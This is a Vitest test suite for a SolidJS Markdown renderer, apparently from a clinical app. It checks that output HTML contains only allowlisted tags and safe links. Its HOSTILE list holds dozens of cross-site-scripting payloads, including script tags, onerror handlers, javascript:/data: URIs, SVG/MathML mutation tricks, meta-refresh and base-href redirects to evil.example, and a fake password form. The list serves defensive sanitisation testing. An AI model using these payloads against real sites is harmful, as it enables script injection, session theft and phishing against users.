import { cleanup, render } from '@solidjs/testing-library'
import fc from 'fast-check'
import { afterEach, expect, it } from 'vitest'
import { Markdown } from './markdown.tsx'
import { markdownHtml } from './markdown-html.ts'

afterEach(cleanup)

/** All the tags there may be, to the letter; a link leads to the web, to an address or to nowhere. */
const HARMLESS =
  /^<(\/?(p|em|strong|code|pre|ul|li|blockquote|h[3-6]|a)|br \/|hr \/|\/?ol|ol start="\d+"|code class="language-[^"<>]*"|a href="((https?|ircs?|mailto|xmpp):[^"<>]*|[^":<>]*|[/?#.][^"<>]*)"( title="[^"<>]*")?)>$/i

/** Whatever in the HTML is not one of them. Text holds no `<`, so that every one of them begins a tag. */
const harmfulIn = (html: string): string[] =>
  (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !HARMLESS.test(tag))

const HOSTILE = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<ScRiPt\n>alert(1)</sCrIpT >',
  '<img src=x onerror=alert(1)>',
  '![x](https://evil.example/pixel.gif)',
  '![x](javascript:alert(1))',
  '![x][ref]\n\n[ref]: https://evil.example/pixel.gif "title"',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](java\\script:alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click](\tjavascript:alert(1))',
  '[click](&#x09;javascript:alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](file:///etc/passwd)',
  '[click](blob:https://evil.example/1)',
  '[click][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[x](https://e.example "onmouseover=alert(1)")',
  '[x](https://e.example/"onmouseover="alert(1))',
  "[x](https://e.example '\"><img src=x onerror=alert(1)>')",
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=password></form>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<object data="https://evil.example"></object>',
  '<details open ontoggle=alert(1)>',
  '<!-- --><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php echo 1 ?>',
  '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '# <img src=x onerror=alert(1)>',
  '> <script>\n> alert(1)\n> </script>',
  '1. <script>\n   alert(1)',
  '\\<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<p title="</p><script>alert(1)</script>">',
  '[a](<b)c<d>)<img src=x>',
  '\u0000<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '[\u202e](https://e.example)',
]

it.each(HOSTILE)('HIST-7 %j does nothing', (text) => {
  expect(harmfulIn(markdownHtml(text))).toEqual([])
  const { container } = render(() => <Markdown text={text} />)
  expect(
    container.querySelectorAll('script, form, input, img, iframe, svg, style, object, link, meta'),
  ).toHaveLength(0)
  for (const link of container.querySelectorAll('a')) {
    expect(link.getAttribute('href')).not.toMatch(/^\s*(javascript|data|vbscript|file|blob):/i)
    expect([link.rel, link.target]).toEqual(['noopener noreferrer', '_blank'])
  }
})

it('HIST-7 whatever these are put together to does nothing either', { timeout: 60_000 }, () => {
  const signs = [
    '<',
    '>',
    '"',
    "'",
    '`',
    '[',
    ']',
    '(',
    ')',
    '!',
    '\\',
    '&',
    '#',
    '*',
    '_',
    '\n',
    '\n\n',
    ' ',
    '    ',
    ':',
    '/',
  ]
  const piece = fc.oneof(fc.constantFrom(...HOSTILE), fc.constantFrom(...signs), fc.string({ maxLength: 8 }))
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      expect(harmfulIn(markdownHtml(pieces.join('')))).toEqual([])
    }),
    { numRuns: 500 },
  )
})

it.each(['[', '>', '- ', '1. ', '*a', '![a](', '<a ', '_a_', '`a'])(
  'HIST-7 a text of nothing but %j is shown as it was typed, and keeps nobody waiting',
  (sign) => {
    const text = sign.repeat(40_000 / sign.length)
    const { container } = render(() => <Markdown text={text} />)
    expect(container.textContent).toBe(text)
  },
)

it('HIST-1 what a doctor writes is shown as it is meant', () => {
  const text =
    '# Findings\n\nBlood pressure **120/80**, *calm*.\n\n- cough\n- fever\n\n[Leaflet](https://clinic.example/a)'
  const { container } = render(() => <Markdown text={text} />)
  expect(container.querySelector('h3')?.textContent).toBe('Findings')
  expect(container.querySelector('strong')?.textContent).toBe('120/80')
  expect(container.querySelectorAll('li')).toHaveLength(2)
  expect(container.querySelector('a')?.href).toBe('https://clinic.example/a')
  expect(container.querySelector('.markdown')?.getAttribute('dir')).toBe('auto')
})
